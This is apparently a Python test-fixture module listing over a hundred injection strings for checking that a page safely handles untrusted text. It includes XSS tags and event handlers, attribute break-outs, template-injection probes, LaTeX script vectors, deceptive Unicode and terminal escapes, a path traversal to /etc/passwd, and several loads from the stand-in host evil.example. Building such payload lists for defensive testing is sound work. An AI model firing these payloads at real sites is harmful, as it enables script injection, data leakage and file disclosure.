"""Texts that would run, load or mislead if a page obeyed them: tags, attributes, URLs, templates, LaTeX, directions.

Each that could run a script would set `window.hit` or open a dialog.
"""

from __future__ import annotations

_CALL = "window.hit=1"
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</select></option><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script\n>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>go</button></form>",
    "<a href=javascript:{}>here</a>",
    "<a href='java\tscript:{}'>here</a>",
    "<img src=//evil.example/x.png>",
    "<video><source onerror={}></video>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<template><script>{}</script></template>",
    "<noscript><img src=x onerror={}></noscript>",
    "<xmp><script>{}</script></xmp>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<svg><animate onbegin={} attributeName=x></svg>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>",
    "<body onload={}>",
    "<!--<img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
)
_BREAKS = ('"', "'", '">', "'>", "`", '" ', "' ", "\\'", '\\"', '"/>', "';", '";')
_TEMPLATES = ("{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{ ''.__class__ }}}}")
_LATEX = (
    r"$\href{javascript:window.hit=1}{x}$",
    r"\url{javascript:window.hit=1}",
    r"$\text{<script>window.hit=1</script>}$",
    r"$\html{<img src=x onerror=window.hit=1>}$",
    r"\[\unicode{<script>}\]",
    r"$\class{x\" onmouseover=\"window.hit=1}{y}$",
)
_MISLEADING = (
    "abc\u202etxt.exe",
    "\u2066hidden\u2069",
    "\u200bzero\u200d width",
    "bell \x07 escape \x1b[31m red",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "null \x00 here",
    "line\u2028separator",
    "\ufefftop",
)
INJECTIONS: tuple[str, ...] = (
    *(tag.format(_CALL) for tag in _TAGS),
    *(f"<img src=x {event}={_CALL}>" for event in _EVENTS),
    *(f"{break_out} onmouseover={_CALL} autofocus onfocus={_CALL} x=" for break_out in _BREAKS),
    *(f"{break_out}<svg/onload={_CALL}>" for break_out in _BREAKS),
    *(template.format(_CALL) for template in _TEMPLATES),
    *_LATEX,
    *_MISLEADING,
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "../../../../etc/passwd",
)
assert len(INJECTIONS) >= 100
